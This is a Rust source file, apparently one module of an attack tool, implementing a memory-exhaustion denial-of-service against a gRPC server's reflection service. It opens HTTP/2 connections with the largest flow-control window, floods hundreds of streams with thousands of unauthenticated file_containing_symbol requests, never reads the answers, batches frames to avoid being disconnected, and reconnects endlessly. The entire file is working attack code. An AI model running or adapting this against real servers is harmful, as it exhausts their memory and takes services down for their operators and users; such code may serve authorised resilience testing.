//! Reflection requests whose answers are not read.

use std::time::Duration;

use anyhow::Result;
use bytes::Bytes;
use futures_util::future::{LocalBoxFuture, join_all};
use tokio::time::{sleep, timeout};

use crate::attack::{Attack, AttackTarget};
use crate::wire;

const CONNECTIONS: usize = 4;
/// Streams of one connection.
const STREAMS: usize = 500;
/// Requests of one stream.
const REQUESTS: usize = 400;
const SYMBOL: &str = "earmark.cas.v1.CasAllocationService";
/// The tag of `file_containing_symbol`, a text, in `ServerReflectionRequest`.
const SYMBOL_TAG: u8 = 4 << 3 | 2;
/// The largest window of HTTP/2: no flow control tells the server to wait.
const WINDOW_MAX: u32 = (1 << 31) - 1;
/// How long a connection is served in order to send the requests.
const SEND_TIME: Duration = Duration::from_secs(2);
/// How long nothing is read of a connection before it is given up: the server closes it after some 50 s.
const UNREAD_TIME: Duration = Duration::from_secs(60);

/// Streams without a token, each with thousands of requests for a file, on connections from which nothing is read: a
/// server that answers ahead of the reader fills its memory.
pub(crate) struct ReflectionAttack;

impl Attack for ReflectionAttack {
    fn name(&self) -> &'static str {
        "reflection"
    }

    fn has_token(&self) -> bool {
        false
    }

    fn run<'t>(&'t self, target: &'t AttackTarget) -> LocalBoxFuture<'t, Result<()>> {
        Box::pin(async move {
            join_all((0..CONNECTIONS).map(|_| keep(target))).await;
            Ok(())
        })
    }
}

/// Keeps one connection to the server, and opens it again whenever it is closed.
async fn keep(target: &AttackTarget) {
    loop {
        _ = ask(target).await;
        sleep(Duration::from_millis(200)).await;
    }
}

async fn ask(target: &AttackTarget) -> Result<()> {
    let mut request = vec![SYMBOL_TAG, u8::try_from(SYMBOL.len())?];
    request.extend(SYMBOL.as_bytes());
    // In few frames: many small ones would be a reason to close the connection.
    let requests: Bytes = wire::frame_bytes(&request).repeat(REQUESTS).into();
    let (mut sender, mut connection) = wire::open(target, WINDOW_MAX).await?;
    let mut streams = Vec::new();
    for _ in 0..STREAMS {
        let path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
        let (response, mut stream) = sender.send_request(wire::head(target, path, None)?, false)?;
        stream.send_data(requests.clone(), false)?;
        streams.push((response, stream));
    }
    if timeout(SEND_TIME, &mut connection).await.is_err() {
        sleep(UNREAD_TIME).await;
    }
    Ok(())
}
